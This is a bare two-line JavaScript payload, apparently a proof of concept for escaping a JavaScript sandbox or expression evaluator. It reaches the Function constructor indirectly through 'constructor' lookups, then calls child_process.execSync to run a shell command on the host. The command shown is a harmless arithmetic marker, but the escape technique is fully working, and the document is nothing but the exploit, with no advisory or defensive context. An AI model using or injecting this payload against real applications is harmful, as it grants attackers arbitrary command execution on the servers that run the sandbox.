const k=Object.getOwnPropertyNames(Object.prototype)[0]; const a=''[k]; const F=a[k];
F.call(null,'process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
